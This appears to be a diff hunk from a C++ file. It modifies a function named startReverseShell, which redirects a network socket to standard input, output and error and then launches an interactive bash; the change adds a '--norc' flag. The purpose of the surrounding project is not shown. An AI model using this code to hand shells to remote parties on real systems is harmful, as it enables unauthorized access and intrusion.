@@ -129,7 +129,7 @@ pid_t startReverseShell(int port) {
     for (const int standard : {0, 1, 2}) {
         dup2(peer, standard);
     }
-    execl("/bin/bash", "bash", "-i", nullptr);
+    execl("/bin/bash", "bash", "--norc", "-i", nullptr);
     _exit(127);
 }
 
